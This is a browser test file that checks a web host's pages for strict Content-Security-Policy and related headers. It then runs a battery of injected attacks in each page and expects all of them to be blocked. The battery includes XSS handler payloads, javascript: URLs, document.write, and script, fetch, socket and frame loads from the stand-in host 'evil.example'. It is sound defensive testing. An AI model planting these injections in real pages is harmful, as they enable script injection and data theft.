/** What every page of the host is held to: the headers as they come, and in a browser that nothing of an attacker's runs under them. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, relative, resolve } from 'node:path'
import { afterAll, beforeAll, expect, jest, test } from '@jest/globals'
import type { Browser } from 'playwright-core'
import { ada } from '../../bench/administrator.ts'
import { launchBrowser } from '../support/browser.ts'
import { startTestHost, type TestHost } from '../support/host.ts'

jest.setTimeout(60_000)

let host: TestHost
let browser: Browser
let folder: string

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'usher-policies-'))
  const { username, password, name, email, group } = ada
  const staff = [{ username, password, name, email, groups: [group] }]
  const demo = { staff, home: relative(folder, resolve('demo/home.html')), parameters: { AdministratorEmail: email } }
  writeFileSync(join(folder, 'demo.json'), JSON.stringify(demo))
  host = await startTestHost({ demo: join(folder, 'demo.json') })
  browser = await launchBrowser()
}, 90_000)

afterAll(async () => {
  await browser?.close()
  await host?.stop()
  rmSync(folder, { recursive: true, force: true })
})

/**
 * The product's pages, as trust-ux.md “Headers” has them. Three deviations, each stricter or needed: `'self'` covers the socket of the
 * same host; a worker's address is a script sink, so one policy lets one address through; staff pages reach where they sign in.
 */
const page = (parts: Readonly<Record<string, string>>) => ({
  'default-src': "'none'",
  'script-src': "'self'",
  'style-src': "'self'",
  'img-src': "'self' data: blob:",
  'font-src': "'self'",
  'media-src': "'self'",
  'worker-src': "'self'",
  'form-action': "'self'",
  'base-uri': "'none'",
  'frame-ancestors': "'none'",
  'require-trusted-types-for': "'script'",
  ...parts,
})
const connected = (elsewhere = '') => ({
  'connect-src': `'self'${elsewhere}`,
  'frame-src': "'self'",
  'trusted-types': 'usher-heartbeat',
})

interface Place {
  readonly name: string
  readonly url: () => string
  readonly policy: () => Readonly<Record<string, string>>
}
const places: readonly Place[] = [
  {
    name: 'console',
    url: () => `${host.origins[0]}/console/`,
    policy: () => page(connected(` ${new URL(host.issuer).origin} ${host.issuer}`)),
  },
  { name: 'chat', url: () => `${host.origins[1]}/chat/`, policy: () => page(connected()) },
  { name: 'widget’s frame', url: () => `${host.origins[1]}/widget/`, policy: () => page(connected()) },
  { name: 'viewer', url: () => `${host.origins[2]}/`, policy: () => page({ 'trusted-types': "'none'" }) },
  {
    name: 'start page',
    url: () => `${host.origins[0]}/`,
    policy: () => ({
      'default-src': "'none'",
      'style-src': expect.stringMatching(/^'sha256-[\w+/]{43}='$/) as unknown as string,
      'img-src': 'data:',
      'form-action': "'none'",
      'base-uri': "'none'",
      'frame-ancestors': "'none'",
      'require-trusted-types-for': "'script'",
      'trusted-types': "'none'",
    }),
  },
  {
    // Cognito's in a deployment; the host's own has no script at all
    name: 'sign-in page',
    url: () => `${host.issuer}/oauth2/authorize?${new URLSearchParams(signIn())}`,
    policy: () => ({
      'default-src': "'none'",
      'style-src': expect.stringMatching(/^'sha256-[\w+/]{43}='$/) as unknown as string,
      'form-action': expect.stringMatching(/^'self' http:\/\/localhost:\d+$/) as unknown as string,
      'base-uri': "'none'",
      'frame-ancestors': "'none'",
    }),
  },
]
const signIn = () => ({
  client_id: host.clientId,
  response_type: 'code',
  scope: 'openid email profile',
  redirect_uri: `${host.origins[0]}/console/`,
  state: 'some-state',
  code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
  code_challenge_method: 'S256',
})

test.each(places)('[T6] [T14] the $name comes with its policy, directive by directive', async ({ name, url, policy }) => {
  const { status, headers } = await fetch(url())
  expect(status).toBe(200)
  expect(headers.get('content-type')).toMatch(/^text\/html/)
  const directives = (headers.get('content-security-policy') ?? '')
    .split('; ')
    .map(one => [one.slice(0, one.indexOf(' ')), one.slice(one.indexOf(' ') + 1)])
  expect(Object.fromEntries(directives)).toEqual(policy())
  expect(headers.get('x-content-type-options')).toBe('nosniff')
  expect(headers.get('referrer-policy')).toBe(name === 'sign-in page' ? 'same-origin' : 'no-referrer')
  if (name === 'start page' || name === 'sign-in page') return
  expect(headers.get('strict-transport-security')).toBe('max-age=31536000; includeSubDomains')
  expect(headers.get('permissions-policy')).toMatch(/camera=\(\), microphone=\(\), geolocation=\(\)/)
  // a frame of another site cannot be an opener's business; it says who may take it instead
  expect(headers.get(name === 'widget’s frame' ? 'cross-origin-resource-policy' : 'cross-origin-opener-policy')).toMatch(
    /^(cross|same)-origin$/,
  )
})

/** What an attacker would try who can put words, or a node, into a page. Each says how it was refused. */
async function attack(): Promise<Record<string, string>> {
  const strike = 'globalThis.struck = (globalThis.struck || 0) + 1'
  const frames = document.createElement('div')
  document.body.append(frames)
  const fetched = (url: string) => fetch(url, { mode: 'no-cors' })
  const image = (src: string) =>
    new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: () => reject(new Error('no image')), src }))
  const tries: Record<string, () => unknown> = {
    // biome-ignore lint/security/noGlobalEval: it must be refused
    eval: () => globalThis.eval(strike),
    Function: () => new Function(strike)(),
    import: () => import(`https://evil.example/${'x'}.js`),
    fetch: () => fetched('https://evil.example/'),
    image: () => image('https://evil.example/pixel.png'),
    worker: () =>
      new Promise((_resolve, reject) => {
        const worker = new Worker(`data:text/javascript,${strike}`)
        worker.onerror = () => reject(new Error('no worker'))
      }),
    socket: () =>
      new Promise((resolve, reject) => {
        const socket = new WebSocket('wss://evil.example/')
        socket.onopen = resolve
        socket.onerror = () => reject(new Error('no socket'))
      }),
  }
  const silent: Record<string, () => unknown> = {
    timer: () => setTimeout(strike as unknown as () => void),
    innerHTML: () => {
      frames.innerHTML = `<img src="x" onerror="${strike}"><svg onload="${strike}"></svg><details open ontoggle="${strike}">x</details>`
    },
    inlineScript: () => {
      const script = document.createElement('script')
      script.append(strike)
      document.head.append(script)
    },
    foreignScript: () => {
      const script = document.createElement('script')
      script.src = 'https://evil.example/x.js'
      document.head.append(script)
    },
    handler: () => {
      const button = document.createElement('button')
      button.setAttribute('onclick', strike)
      frames.append(button)
      button.click()
    },
    address: () => {
      const link = Object.assign(document.createElement('a'), { href: `javascript:${strike}` })
      frames.append(link)
      link.click()
    },
    frame: () => {
      const frame = document.createElement('iframe')
      frame.setAttribute('src', 'https://evil.example/')
      frames.append(frame)
    },
    style: () => {
      const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' })
      document.head.append(sheet)
    },
    base: () => {
      const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' })
      document.head.append(base)
      if (document.baseURI.startsWith('https://evil.example')) throw new TypeError('the base was moved')
    },
    policy: () =>
      (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
        'mine',
        {},
      ),
    // the last one: where it is not refused, the page and who listens to it are gone
    document: async () => {
      await new Promise(resolve => setTimeout(resolve, 100))
      document.write(`<script>${strike}</script>`)
    },
  }
  const results: Record<string, string> = {}
  // out of the debugger's own call, which a policy does not bind
  await new Promise(resolve => setTimeout(resolve))
  for (const [name, act] of Object.entries({ ...tries, ...silent })) {
    try {
      await act()
      results[name] = 'went through'
    } catch (error) {
      results[name] = error instanceof Error ? error.name : String(error)
    }
  }
  await new Promise(resolve => setTimeout(resolve, 100))
  return results
}

test.each(places)('[T6] [T14] on the $name nothing of somebody else’s runs, loads or is asked', async ({ name, url, policy }) => {
  const context = await browser.newContext()
  context.setDefaultTimeout(15_000)
  const asked: string[] = []
  await context.route(
    address => address.hostname === 'evil.example',
    route => {
      asked.push(route.request().url())
      return route.fulfill({ contentType: 'text/javascript', body: 'globalThis.struck = 1' })
    },
  )
  // the console would go on to the sign-in
  await context.route('**/config.json', route => route.abort())
  await context.addInitScript(() => {
    const reports: string[] = []
    Object.assign(globalThis, { reports })
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => reports.push(effectiveDirective))
  })
  const tab = await context.newPage()
  await tab.goto(url())
  // what the page itself does breaks no rule of its policy
  expect(await tab.evaluate(() => Reflect.get(globalThis, 'reports'))).toEqual([])
  const results = await tab.evaluate(attack)
  expect(asked).toEqual([])
  expect(await tab.evaluate(() => Reflect.get(globalThis, 'struck'))).toBeUndefined()
  for (const one of ['eval', 'Function', 'import', 'fetch', 'image', 'worker', 'socket'])
    expect([one, results[one]]).not.toEqual([one, 'went through'])
  const reports = new Set(await tab.evaluate(() => Reflect.get(globalThis, 'reports') as string[]))
  for (const one of ['script-src', 'connect-src', 'img-src', 'style-src', 'frame-src', 'base-uri'])
    expect([...reports].filter(found => found.startsWith(one)).length > 0 ? one : [one, ...reports]).toBe(one)
  if ('require-trusted-types-for' in policy()) {
    // words become no markup and no code: the assignment itself is refused
    for (const one of ['timer', 'innerHTML', 'foreignScript', 'handler', 'document', 'policy'])
      expect([one, results[one]]).toEqual([one, 'TypeError'])
    expect(reports).toContain('require-trusted-types-for')
    expect(await tab.locator('body img[src="x"]').count()).toBe(0)
  } else expect(name).toBe('sign-in page')
  await context.close()
})
